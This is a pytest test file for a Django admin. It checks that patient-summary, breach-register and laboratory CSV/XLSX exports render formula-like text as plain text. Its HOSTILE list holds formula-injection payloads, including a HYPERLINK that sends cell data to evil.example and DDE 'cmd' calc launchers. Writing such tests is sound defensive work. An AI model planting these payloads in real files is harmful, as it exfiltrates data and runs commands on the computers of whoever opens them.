"""Every CSV/XLSX the admin writes is formula-safe (labs/exports.py): a hostile name comes out as text.

The patient summary, the Art. 33(5) register and the laboratory list are exported through the real admin
views, in CSV and in XLSX; the XLSX is parsed with openpyxl (0 formula cells), the CSV read back (no cell
starts with = + - @ tab or CR unless it is a plain number). The print manifest and the rejects file have
their own tests next to their apps (tests/letters, tests/patients) using the same two checks from here.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from django.utils import timezone

from labs.exports import FORMULA_START, PLAIN_NUMBER
from labs.models import BreachLaboratory, Laboratory
from labs.resources import LABORATORY_COLUMNS
from labs.selectors import REGISTER_COLUMNS
from patients.models import Patient
from patients.resources import SUMMARY_COLUMNS
from tests.factories import BreachFactory, LaboratoryFactory, PatientFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]  # fmt: skip


def unsafe_csv_cells(text: str, delimiter: str = ",") -> list[str]:
    """Cells a spreadsheet would run as a formula: starting with = + - @ tab or CR, and not a plain number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text), delimiter=delimiter)
        for cell in row
        if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.match(cell)
    ]


def formula_cells(xlsx: bytes) -> list[str]:
    """Cells openpyxl reads as formulas (data_type 'f') in every sheet of a workbook."""
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def admin_export(client, model, resource_prefix: str, columns, fmt: str):
    """POST the admin's export form for `model` (every column ticked) in `fmt` ("CSV" or "XLSX")."""
    formats = [f.__name__ for f in admin.site._registry[model].get_export_formats()]
    data = {"format": formats.index(fmt), "resource": 0, **{f"{resource_prefix}_{c}": "on" for c in columns}}
    response = client.post(reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response.content


EXPORTS = {
    "patient summary": (Patient, "patientsummaryresource", SUMMARY_COLUMNS),
    "Art. 33(5) register": (BreachLaboratory, "breachregisterresource", [key for key, _ in REGISTER_COLUMNS]),
    "laboratory list": (Laboratory, "laboratoryresource", LABORATORY_COLUMNS),
}


@pytest.fixture
def hostile_rows():
    """A laboratory, breach, case file and patients whose every free-text field would start a formula."""
    laboratory = LaboratoryFactory(code="=LAB", name=HOSTILE[0], city=HOSTILE[1], dpo_name=HOSTILE[3])
    breach = BreachFactory(title=HOSTILE[2])
    BreachLaboratory.objects.create(breach=breach, laboratory=laboratory, aware_at=timezone.now(),
                                    description=HOSTILE[0])  # fmt: skip
    for index, text in enumerate(HOSTILE):
        PatientFactory(breach=breach, laboratory=laboratory, last_name=text, first_name=HOSTILE[-1 - index],
                       birth_name=text, address_line=text, city=text, email=f"{text}@example.org")  # fmt: skip
    return laboratory


@pytest.mark.parametrize("export", EXPORTS)
def test_a_hostile_name_comes_out_as_text_in_the_csv_export(admin_client, hostile_rows, export):
    # given rows whose names start formulas
    model, prefix, columns = EXPORTS[export]
    # when the admin exports them as CSV
    text = admin_export(admin_client, model, prefix, columns, "CSV").decode("utf-8-sig")
    # then the hostile text is there, whole, but no cell would run
    assert "HYPERLINK" in text
    assert unsafe_csv_cells(text) == []


@pytest.mark.parametrize("export", EXPORTS)
def test_a_hostile_name_comes_out_as_text_in_the_xlsx_export(admin_client, hostile_rows, export):
    # given rows whose names start formulas
    model, prefix, columns = EXPORTS[export]
    # when the admin exports them as XLSX
    xlsx = admin_export(admin_client, model, prefix, columns, "XLSX")
    # then the workbook holds the text and not one formula cell
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    values = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert any(isinstance(value, str) and "HYPERLINK" in value for value in values)
    assert formula_cells(xlsx) == []


def test_the_checks_themselves_see_a_formula():
    # given a CSV and a workbook with a live formula (so a passing export test means something)
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "=1+1"
    buffer = io.BytesIO()
    workbook.save(buffer)
    # then both checks report it, and a plain phone number or negative amount is not reported
    assert formula_cells(buffer.getvalue()) == ["A1"]
    assert unsafe_csv_cells('=1+1,+33612345678,-12.5,"@x"\n') == ["=1+1", "@x"]
